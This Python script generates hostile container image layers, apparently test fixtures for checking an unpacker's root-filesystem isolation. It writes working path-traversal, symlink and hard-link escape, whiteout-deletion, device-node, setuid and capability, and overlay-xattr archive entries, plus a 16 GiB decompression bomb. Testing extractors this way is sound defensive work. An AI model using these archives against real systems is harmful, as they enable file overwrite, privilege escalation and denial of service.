#!/usr/bin/env python3
"""Writes layers that try to get out of an image's root filesystem, each to FOLDER/NAME.tar.

Usage: hostile_layers.py FOLDER CANARY      CANARY is the folder outside that they are after; it has a file `secret`
       hostile_layers.py --bomb FILE        a compressed layer of 16 MiB that unpacks to 16 GiB
"""
import gzip
import io
import sys
import tarfile
from pathlib import Path

UP = "../" * 20


def entry(name: str, data: bytes = b"", **fields) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size, info.mode, info.mtime = len(data), 0o644, 1
    for field, value in fields.items():
        setattr(info, field, value)
    return info, data


def folder(name: str):
    return entry(name, type=tarfile.DIRTYPE, mode=0o755)


def symlink(name: str, text: str):
    return entry(name, type=tarfile.SYMTYPE, linkname=text)


def hard_link(name: str, text: str):
    return entry(name, type=tarfile.LNKTYPE, linkname=text)


def device(name: str, kind: bytes, major: int, minor: int):
    return entry(name, type=kind, devmajor=major, devminor=minor, mode=0o666)


def evil(name: str):
    return entry(name, b"evil\n", mode=0o755)


def layers(canary: str) -> dict[str, list]:
    beyond = UP + canary.lstrip("/")
    found = {
        "parent-path": [evil(f"{beyond}/evil"), evil(f"bin/{beyond}/evil"), evil(f"{beyond}/secret")],
        "absolute-path": [evil(f"{canary}/evil"), evil(f"//{canary}/secret")],
        "own-record": [evil("../image.json"), evil("../../image/image.json"), evil("/image/digest"), evil("../config.json")],
        "through-link": [symlink("way", canary), evil("way/evil"), evil("way/secret")],
        "through-relative-link": [symlink("way", beyond), evil("way/evil"), evil("way/secret")],
        "through-two-links": [symlink("a", "b/.."), symlink("b", beyond), evil("a/evil"), evil("b/secret")],
        "link-as-root": [symlink(".", canary), symlink("./", canary), evil("evil")],
        "hard-link": [hard_link("secret", f"{canary}/secret"), evil("secret")],
        "hard-link-up": [hard_link("secret", f"{beyond}/secret"), evil("secret")],
        "hard-link-of-link": [symlink("way", f"{canary}/secret"), hard_link("secret", "way"), evil("secret")],
        "deletion-up": [evil(f"{beyond}/.wh.secret"), evil("bin/.wh..."), evil(".wh.."), evil(".wh.")],
        "deletion-through-link": [symlink("way", canary), evil("way/.wh.secret"), evil("way/.wh..wh..opq")],
        "devices": [
            device("disk", tarfile.BLKTYPE, 8, 0),
            device("memory", tarfile.CHRTYPE, 1, 1),
            device("deleted", tarfile.CHRTYPE, 0, 0),
            entry("pipe", type=tarfile.FIFOTYPE, mode=0o666),
        ],
        "set-user-id": [
            entry("bin/setuid", b"x", mode=0o4755),
            entry("bin/setgid", b"x", mode=0o2755, uid=0, gid=0),
            entry("bin/of-another", b"x", mode=0o6777, uid=1000, gid=1000),
            entry("folder", type=tarfile.DIRTYPE, mode=0o6777),
            entry("bin/capable", b"x", mode=0o755, pax_headers={
                "SCHILY.xattr.security.capability": "\x01\0\0\x02\xa0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".replace("\xa0", "\x20")}),
        ],
        "overlay-marks": [
            entry("bin", type=tarfile.DIRTYPE, mode=0o755, pax_headers={
                "SCHILY.xattr.user.overlay.opaque": "y", "SCHILY.xattr.user.overlay.redirect": beyond,
                "SCHILY.xattr.trusted.overlay.opaque": "y"}),
        ],
    }
    for name in ("workspace", "proc", "tmp", "etc", "dev", "home", "run", "root", "usr/bin", "target"):
        found[f"link-{name.replace('/', '-')}"] = [evil(f"{name}/.wh..wh..opq"), evil(f"{Path(name).parent}/.wh.{Path(name).name}"),
                                                  symlink(name, canary)]
    found["file-workspace"] = [evil("workspace")]
    found["link-resolv.conf"] = [symlink("etc/resolv.conf", f"{canary}/secret"), symlink("etc/hosts", f"{beyond}/evil"),
                                 symlink("etc/passwd", f"{canary}/secret"), symlink("etc/group", f"{canary}/evil")]
    return found


def write_bomb(path: Path) -> None:
    info, _ = entry("zeros")
    info.size = 16 << 30
    zeros = gzip.compress(bytes(1 << 24), mtime=0)
    with path.open("wb") as out:
        out.write(gzip.compress(info.tobuf(), mtime=0))
        for _ in range(1 << 10):
            out.write(zeros)


def main() -> None:
    if sys.argv[1] == "--bomb":
        write_bomb(Path(sys.argv[2]))
        return
    for name, entries in layers(sys.argv[2]).items():
        with tarfile.open(Path(sys.argv[1], f"{name}.tar"), "w", format=tarfile.PAX_FORMAT) as tar:
            for info, data in entries:
                tar.addfile(info, io.BytesIO(data))


if __name__ == "__main__":
    main()
